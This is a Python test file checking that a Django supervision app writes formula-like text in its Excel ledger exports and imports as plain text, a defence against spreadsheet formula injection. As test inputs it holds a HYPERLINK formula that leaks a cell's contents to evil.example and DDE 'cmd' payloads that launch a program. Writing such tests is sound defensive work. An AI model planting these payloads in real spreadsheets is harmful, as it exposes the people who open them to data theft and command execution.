"""Formula injection in the supervision exports and the ledger round trip (issue #10, item 2)."""

from __future__ import annotations

import io

from django.urls import reverse
from openpyxl import load_workbook

from fazhi.core import excel
from fazhi.supervision import ledger_import, ledger_sheet, services
from fazhi.supervision.models import Task
from tests.core.test_excel import assert_written_as_text
from tests.supervision.conftest import task_for

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B5,"点击查看附件")'


def test_a_reporters_formula_lands_in_the_offices_ledger_export_as_text(ledger, org, users, login):
    first = task_for(ledger.test_items.yearly).milestones.filter(unit=org.reform).order_by("due_on").first()
    report = services.save_report(users.reporter, first, text=HYPERLINK, percent=50)
    services.submit_report(users.reporter, report)
    response = login(users.office).get(reverse("supervision:ledger_export", args=[ledger.pk]))
    assert response.status_code == 200
    assert_written_as_text(response.content, [f"{HYPERLINK}（待审核）"])


def test_the_ledger_table_export_writes_task_text_as_text(ledger, users, login):
    Task.objects.filter(plan=ledger).update(title="@SUM(1+1)*cmd|' /C calc'!A0")
    response = login(users.office).get(reverse("supervision:plan_ledger", args=[ledger.pk]), {"export": "xlsx"})
    assert response.status_code == 200
    assert_written_as_text(b"".join(response.streaming_content), ["@SUM(1+1)*cmd|' /C calc'!A0"])


def _content_rows(data: bytes) -> dict[str, int]:
    sheet = load_workbook(io.BytesIO(data)).active
    return {sheet.cell(r, 2).value: r for r in range(4, sheet.max_row + 1) if sheet.cell(r, 2).value}


def _edited(data: bytes, row: int, column: int, text: str) -> bytes:
    """The workbook as Excel saves it after the office types `text` (Excel marks it quotePrefix, as we do)."""
    book = load_workbook(io.BytesIO(data))
    excel.set_value(book.active.cell(row, column), text)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_export_edit_import_reads_back_the_same_text_and_writes_it_as_text_again(ledger, users):
    original = "每年3月1日前报告法治政府建设情况。(县发改局负责)"
    typed = "=" + original
    export = ledger_sheet.export_ledger(ledger, Task.objects.all())
    row = _content_rows(export)[original]
    data = _edited(export, row, 2, typed)

    result = ledger_import.import_ledger(users.office, data, "台账.xlsx", plan=ledger)
    assert result.ok, result.errors
    assert result.updated == 1
    task = task_for(ledger.test_items.yearly)
    assert ledger_sheet.task_content(task) == typed  # no apostrophe, no formula: the office's text

    again = ledger_sheet.export_ledger(ledger, Task.objects.all())
    assert_written_as_text(again, [typed])
    assert _content_rows(again)[typed] == row
    second = ledger_import.import_ledger(users.office, again, "台账.xlsx", plan=ledger)
    assert second.ok and (second.created, second.updated) == (0, 0)  # the round trip is stable


def test_the_error_workbook_keeps_formula_like_text_as_text(ledger, users):
    export = ledger_sheet.export_ledger(ledger, Task.objects.all())
    rows = _content_rows(export)
    row = rows["每年3月1日前报告法治政府建设情况。(县发改局负责)"]
    data = _edited(export, row, 2, "-2+3+cmd|' /C calc'!A0")
    data = _edited(data, row, 3, "=县不存在局")
    result = ledger_import.import_ledger(users.office, data, "台账.xlsx", plan=ledger)
    assert not result.ok and "=县不存在局" in result.errors[row]
    assert_written_as_text(result.error_file, ["-2+3+cmd|' /C calc'!A0", "=县不存在局"])
